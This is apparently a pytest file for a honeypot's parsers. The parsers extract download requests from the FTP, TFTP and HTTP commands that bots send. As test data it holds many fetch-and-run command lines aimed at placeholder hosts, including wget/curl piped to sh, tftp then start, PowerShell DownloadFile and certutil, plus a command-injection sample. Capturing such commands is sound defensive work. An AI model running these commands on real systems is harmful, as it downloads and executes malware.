"""The download command parsers: bots' command forms in, download requests out."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from honeytrap.download import ftpcmd, httpcmd, tftpcmd
from honeytrap.download.request import DownloadRequest

PARSERS = [ftpcmd.parse, tftpcmd.parse, httpcmd.parse]


def _one(found: list[DownloadRequest]) -> DownloadRequest:
    assert len(found) == 1, found
    return found[0]


def test_ftp_echo_script_with_user_command() -> None:
    r = _one(ftpcmd.parse(
        b"cmd /c echo open 203.0.113.5 2121 >> o & echo user bob pw >> o & echo binary >> o"
        b" & echo get a.exe >> o & echo bye >> o & ftp -n -s:o"))
    assert (r.host, r.port, r.user, r.password, r.path) == ("203.0.113.5", 2121, "bob", "pw",
                                                          "a.exe")


def test_ftp_echo_script_with_prompt_answers() -> None:
    r = _one(ftpcmd.parse(
        b"echo open 203.0.113.5>x&echo joe>>x&echo secret>>x&echo recv b.exe c.exe>>x&ftp -s:x"))
    assert (r.port, r.user, r.password, r.path, r.filename) == (21, "joe", "secret", "b.exe",
                                                              "c.exe")


def test_ftp_user_and_password_on_separate_lines() -> None:
    r = _one(ftpcmd.parse(b"open 203.0.113.5 21\r\nuser joe\r\nsecret\r\nget x\r\nquit\r\n"))
    assert (r.user, r.password) == ("joe", "secret")


def test_ftp_get_without_open_is_nothing() -> None:
    assert ftpcmd.parse(b"echo get a.exe >> o & ftp -s:o") == []


def test_ftp_get_after_bye_is_nothing() -> None:
    assert ftpcmd.parse(b"open 203.0.113.5\nuser a b\nbye\nget a.exe\n") == []


def test_ftp_url_with_credentials_and_ipv6() -> None:
    r = _one(ftpcmd.parse(b"x ftp://u:p%40ss@[2001:db8::5]:2121/d/x.exe y"))
    assert (r.host, r.port, r.user, r.password, r.path) == ("2001:db8::5", 2121, "u", "p@ss",
                                                          "d/x.exe")


def test_ftp_url_without_user_logs_in_anonymously() -> None:
    assert _one(ftpcmd.parse(b"ftp://203.0.113.5/x")).user == "anonymous"


@pytest.mark.parametrize("line", [
    b"tftp -i 203.0.113.5 GET x.exe",
    b"TFTP.EXE -I 203.0.113.5 get x.exe",
    b"cmd /c tftp -i 203.0.113.5 Get x.exe x.exe&start x.exe",
    b"cd /tmp; tftp -g -r x.exe 203.0.113.5; sh x.exe",
    b"busybox tftp -r x.exe -g 203.0.113.5 69",
])
def test_tftp_forms(line: bytes) -> None:
    r = _one(tftpcmd.parse(line))
    assert (r.host, r.port, r.path) == ("203.0.113.5", 69, "x.exe")


def test_tftp_local_name_is_the_filename() -> None:
    assert _one(tftpcmd.parse(b"tftp -i 203.0.113.5 GET a.exe b.exe")).filename == "b.exe"


def test_tftp_without_get_is_nothing() -> None:
    assert tftpcmd.parse(b"tftp -i 203.0.113.5 PUT a.exe") == []


@pytest.mark.parametrize(("line", "uri"), [
    (b"cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh", "http://203.0.113.5:80/x.sh"),
    (b"curl -O 203.0.113.5:8080/a.sh&&sh a.sh", "http://203.0.113.5:8080/a.sh"),
    (b"busybox wget 203.0.113.5/b -O- | sh", "http://203.0.113.5:80/b"),
    (b"powershell (New-Object Net.WebClient).DownloadFile('https://evil.example/a.exe','a')",
     "https://evil.example:443/a.exe"),
    (b"powershell Invoke-WebRequest -Uri http://203.0.113.5/p.ps1 -OutFile p.ps1",
     "http://203.0.113.5:80/p.ps1"),
    (b"certutil -urlcache -split -f http://203.0.113.5/c.exe c.exe",
     "http://203.0.113.5:80/c.exe"),
    (b"GET /shell?cd+/tmp;wget+http://203.0.113.5/m HTTP/1.1", "http://203.0.113.5:80/m"),
])
def test_http_forms(line: bytes, uri: str) -> None:
    assert _one(httpcmd.parse(line)).uri == uri


def test_http_shell_metacharacters_stay_in_the_path() -> None:
    r = _one(httpcmd.parse(b"wget http://203.0.113.5/x;touch /tmp/pwned"))
    assert r.path == "/x;touch"


def test_http_non_ascii_path_is_percent_encoded() -> None:
    assert _one(httpcmd.parse("http://203.0.113.5/ä".encode())).path == "/%C3%A4"


def test_duplicates_are_reported_once() -> None:
    assert len(httpcmd.parse(b"http://203.0.113.5/x http://203.0.113.5/x")) == 1


def test_requests_per_payload_are_bounded() -> None:
    payload = b" ".join(b"http://203.0.113.5/%d" % i for i in range(1000))
    assert len(httpcmd.parse(payload)) == 64


@pytest.mark.parametrize("parse", PARSERS)
@settings(max_examples=300, deadline=None)
@given(data=st.binary(max_size=2000))
def test_parsers_never_raise_on_arbitrary_bytes(parse: object, data: bytes) -> None:
    assert callable(parse)
    result = parse(data)
    assert all(isinstance(r, DownloadRequest) for r in result)


_WORDS = st.sampled_from([
    "open", "user", "get", "recv", "bye", "echo", ">>", "o", "&", "ftp", "-s:o", "tftp", "-i",
    "GET", "-g", "-r", "wget", "curl", "http://", "ftp://", "https://", "[", "]", ":", "@",
    "203.0.113.5", "::1", "x.exe", "65536", "0", "21", "\r\n", "/", "%", "\x00", "ä",
])


@pytest.mark.parametrize("parse", PARSERS)
@settings(max_examples=300, deadline=None)
@given(words=st.lists(_WORDS, max_size=40))
def test_parsers_never_raise_on_command_like_input(parse: object, words: list[str]) -> None:
    assert callable(parse)
    result = parse(" ".join(words).encode())
    assert all(isinstance(r, DownloadRequest) and 0 < r.port < 65536 for r in result)
